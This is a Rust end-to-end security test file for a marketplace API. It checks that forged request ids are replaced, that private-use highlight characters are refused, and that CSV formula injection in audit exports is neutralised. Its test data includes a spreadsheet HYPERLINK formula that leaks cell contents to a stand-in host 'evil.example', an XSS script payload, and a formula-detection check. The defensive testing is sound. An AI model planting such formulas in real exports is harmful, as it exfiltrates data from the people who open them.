//! What a hostile client can put into the log and the exports, over HTTP: request ids that
//! are not UUIDs are replaced, correlation ids are never the client's, text with private-use
//! characters (the search backends' highlight marks) is refused, and a CSV cell that a
//! spreadsheet would run as a formula is neutralised.

use otop_domain::{Actor, Role};
use otop_e2e::TestApp;
use reqwest::{Method, StatusCode};
use serde_json::{json, Value};
use uuid::Uuid;

/// A cell a spreadsheet would run: it starts a formula and is not a plain number.
fn runs_as_formula(cell: &str) -> bool {
    let starts_a_formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    starts_a_formula && cell.parse::<f64>().is_err()
}

async fn events_in_log(app: &TestApp) -> i64 {
    sqlx::query_scalar("SELECT count(*) FROM events")
        .fetch_one(&app.pool)
        .await
        .expect("count events")
}

/// Creates a vendor application with `X-Request-Id: request_id`; the reply's request id and
/// the metadata of the event it wrote.
async fn apply_with_request_id(app: &TestApp, request_id: &str) -> (String, Value) {
    let reply = app
        .client
        .post(format!("{}/v1/vendors", app.base_url))
        .bearer_auth(app.shopper("applicant"))
        .header("X-Request-Id", request_id)
        .json(&json!({
            "name_th": "กลุ่มทอผ้าไหมบ้านท่าสว่าง",
            "district_code": "3201",
            "producer_type": "community_group",
            "phone": "044-511-234",
        }))
        .send()
        .await
        .expect("the API answers");
    assert_eq!(reply.status(), StatusCode::CREATED);
    let echoed = reply
        .headers()
        .get("x-request-id")
        .and_then(|v| v.to_str().ok())
        .expect("the reply names its request id")
        .to_string();
    let body: Value = reply.json().await.expect("JSON reply");
    let metadata: Value = sqlx::query_scalar(
        "SELECT metadata FROM events WHERE aggregate_type = 'Vendor' AND aggregate_id = $1",
    )
    .bind(body["id"].as_str().expect("vendor id"))
    .fetch_one(&app.pool)
    .await
    .expect("the application's event");
    (echoed, metadata)
}

#[tokio::test]
async fn request_ids_that_are_not_uuids_are_replaced_and_correlation_ids_are_never_the_clients() {
    let app = TestApp::spawn().await;
    for forged in [
        "=HYPERLINK(\"http://evil.example\",\"click\")",
        "<script>alert(1)</script>",
        "not-a-uuid",
    ] {
        let (echoed, metadata) = apply_with_request_id(&app, forged).await;
        assert_ne!(echoed, forged);
        assert!(Uuid::parse_str(&echoed).is_ok(), "a fresh UUID: {echoed}");
        assert_eq!(metadata["request_id"], echoed.as_str(), "{metadata}");
        assert!(!metadata.to_string().contains(forged), "{metadata}");
    }
    // A UUID is kept as the request id (a caller's trace), but it never becomes the
    // correlation or causation id of what the command wrote.
    let chosen = Uuid::new_v4().to_string();
    let (echoed, metadata) = apply_with_request_id(&app, &chosen).await;
    assert_eq!(echoed, chosen);
    assert_eq!(metadata["request_id"], chosen.as_str());
    assert_ne!(metadata["correlation_id"], chosen.as_str(), "{metadata}");
    assert_ne!(metadata["causation_id"], chosen.as_str(), "{metadata}");
    app.cleanup().await;
}

#[tokio::test]
async fn text_with_private_use_characters_is_refused_and_writes_nothing() {
    let app = TestApp::spawn().await;
    let vendor = app.approved_vendor("กลุ่มเครื่องเงินบ้านโชค").await;
    let owner = app.vendor(vendor);
    let before = events_in_log(&app).await;
    // U+E000 and U+E001 are the marks the Meilisearch backend puts around a highlight: a
    // title carrying them would show as highlighted, or break out of a highlight, in search.
    for (field, value) in [
        ("title_th", json!("ต่างหูเงิน\u{E000}ลดราคา\u{E001}")),
        ("description_th", json!("เงินแท้\u{F8FF}")),
        ("tags", json!(["silver", "\u{E001}"])),
    ] {
        let mut body = json!({
            "title_th": "ต่างหูเงินลายประเกือม",
            "category_code": "TEXTILE",
            "subtype_code": "TEX_SILK_MUDMEE",
            "price_satang": 120_000,
            "stock": 5,
        });
        body[field] = value;
        let reply = app.post("/v1/listings", &owner, body).await;
        reply.assert_problem(422);
        let named = reply.body["errors"].as_array().is_some_and(|errors| {
            errors.iter().any(|e| {
                e["field"].as_str().is_some_and(|f| f.starts_with(field))
                    && e["message"]
                        .as_str()
                        .is_some_and(|m| m.contains("private-use"))
            })
        });
        assert!(named, "{field}: {reply:?}");
    }
    assert_eq!(
        events_in_log(&app).await,
        before,
        "a refused listing writes nothing"
    );
    app.cleanup().await;
}

#[tokio::test]
async fn a_formula_in_a_token_subject_reaches_the_audit_csv_as_text() {
    let app = TestApp::spawn().await;
    let vendor = app.approved_vendor("กลุ่มจักสานบ้านบุทม").await;
    let listing = app.published_listing(vendor, 10).await;
    // Whoever issues tokens (an OpenID Connect provider, later) chooses the subject: it is
    // the one piece of text in the audit export the platform does not write itself.
    let formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"open\")";
    let shopper = app.token(&Actor::new(formula, Role::Shopper));
    let placed = app
        .post(
            "/v1/checkouts",
            &shopper,
            json!({
                "lines": [{"listing_id": listing, "quantity": 1}],
                "shipping_address": {"name": "@SUM(1+1)", "phone": "0812345678",
                    "line1": "-1+1", "province": "สุรินทร์", "postcode": "32000"},
            }),
        )
        .await;
    assert_eq!(placed.status, StatusCode::CREATED, "{placed:?}");
    let order = placed.body["orders"][0]["id"]
        .as_str()
        .expect("order id")
        .to_string();
    let auditor = app.token(&Actor::new("auditor-1", Role::Auditor));
    let reply = app
        .client
        .request(
            Method::GET,
            format!("{}/v1/audit/orders/{order}/history", app.base_url),
        )
        .bearer_auth(&auditor)
        .header("Accept", "text/csv")
        .send()
        .await
        .expect("the API answers");
    assert_eq!(reply.status(), StatusCode::OK);
    let text = reply.text().await.expect("CSV text");
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let headers = reader.headers().expect("a header row").clone();
    let actor_column = headers
        .iter()
        .position(|h| h == "actor_id")
        .expect("an actor_id column");
    let role_column = headers
        .iter()
        .position(|h| h == "actor_role")
        .expect("an actor_role column");
    let (mut rows, mut shopper_rows) = (0, 0);
    for record in reader.records() {
        let record = record.expect("a well-formed row");
        rows += 1;
        for cell in record.iter() {
            assert!(
                !runs_as_formula(cell),
                "a cell a spreadsheet would run: {cell:?}"
            );
        }
        if record.get(role_column) == Some("shopper") {
            shopper_rows += 1;
            assert_eq!(
                record.get(actor_column),
                Some(format!("'{formula}").as_str())
            );
        }
    }
    assert!(rows >= 2, "the order's events are in the export: {text}");
    assert!(
        shopper_rows >= 1,
        "the shopper's own event is in the export: {text}"
    );
    app.cleanup().await;
}
